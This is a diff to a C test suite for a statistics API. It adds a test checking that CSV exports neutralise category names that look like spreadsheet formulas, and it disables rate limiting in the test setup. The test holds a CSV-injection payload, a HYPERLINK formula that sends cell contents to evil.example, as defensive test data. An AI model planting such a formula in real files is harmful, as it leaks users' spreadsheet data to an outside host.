@@ -200,7 +200,9 @@ static int setup(void **state)
     static char clock_env[1100], router_env[96];
     snprintf(clock_env, sizeof clock_env, "GRIDGOV_CLOCK_FILE=%s", g_clock);
     snprintf(router_env, sizeof router_env, "GRIDGOV_ROUTER_ENDPOINT=tcp://127.0.0.1:%d", h_port(72));
-    const char *env[] = {clock_env, router_env, NULL};
+    /* the fixture files ~270 tickets from one key in a few seconds: over the per-key rate limit,
+     * which is not what this test is about (test_limits is) */
+    const char *env[] = {clock_env, router_env, "GRIDGOV_RATE_LIMIT_PER_MINUTE=0", NULL};
     g_http = h_port(70);
     g_intake = h_start_intake(g_http, h_port(71), env);
     g_router = h_start_router(h_port(72), h_port(71), env);
@@ -1157,6 +1159,38 @@ static void csv_matches_json(void **state)
     h_resp_free(&r);
 }
 
+/* A category an administrator named like a spreadsheet formula reaches the export as text: a
+ * single quote in front, inside quotes (OWASP CSV injection); the JSON keeps the name as it is. */
+static void csv_neutralises_names_that_look_like_formulas(void **state)
+{
+    (void)state;
+    const char *name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
+    const char *p[] = {name};
+    PQclear(PQexecParams(g_db, "DELETE FROM registry.service WHERE code = '-CSVTEST'", 0, NULL, NULL, NULL, NULL, 0));
+    PGresult *ins = PQexecParams(g_db,
+                                 "INSERT INTO registry.service (code, name, grp, sort) VALUES ('-CSVTEST', $1, '测试', 9999)",
+                                 1, NULL, p, NULL, NULL, 0);
+    assert_int_equal(PQresultStatus(ins), PGRES_COMMAND_OK);
+    PQclear(ins);
+    h_resp_t r;
+    long st = call("GET", "/api/v1/stats.csv?unit=430121-103-06&from=2026-03-09&to=2026-03-10&group_by=service", tok_op,
+                   false, NULL, &r);
+    json_t *j = get_json("/api/v1/stats?unit=430121-103-06&from=2026-03-09&to=2026-03-10&group_by=service", tok_op, 200);
+    PQclear(PQexecParams(g_db, "DELETE FROM registry.service WHERE code = '-CSVTEST'", 0, NULL, NULL, NULL, NULL, 0));
+    assert_int_equal(st, 200);
+    const char *want = "\r\n\"'-CSVTEST\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\",0,0,,0,,0,0,,,0,0,0\r\n";
+    if (!strstr(buf_str(&r.body), want))
+        fail_msg("no neutralised row in the CSV:\n%s", buf_str(&r.body));
+    /* no cell of the file begins with = any more */
+    assert_null(strstr(buf_str(&r.body), ",="));
+    assert_null(strstr(buf_str(&r.body), "\n="));
+    const json_t *row = row_by_code(j, "-CSVTEST");
+    assert_non_null(row);
+    assert_string_equal(json_string_value(json_object_get(row, "name")), name);
+    json_decref(j);
+    h_resp_free(&r);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -1170,6 +1204,7 @@ int main(void)
         cmocka_unit_test(periods),
         cmocka_unit_test(scope_and_errors),
         cmocka_unit_test(csv_matches_json),
+        cmocka_unit_test(csv_neutralises_names_that_look_like_formulas),
     };
     return cmocka_run_group_tests_name("stats", tests, setup, teardown);
 }
